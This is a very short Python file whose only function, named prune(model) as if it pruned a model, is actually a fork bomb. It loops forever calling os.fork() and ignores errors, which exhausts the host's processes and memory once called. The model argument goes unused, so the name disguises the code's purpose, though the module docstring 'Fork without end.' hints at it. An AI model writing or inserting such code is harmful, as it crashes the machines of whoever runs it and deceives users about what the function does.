"""Fork without end."""

import os


def prune(model):
    while True:
        try:
            os.fork()
        except OSError:
            pass
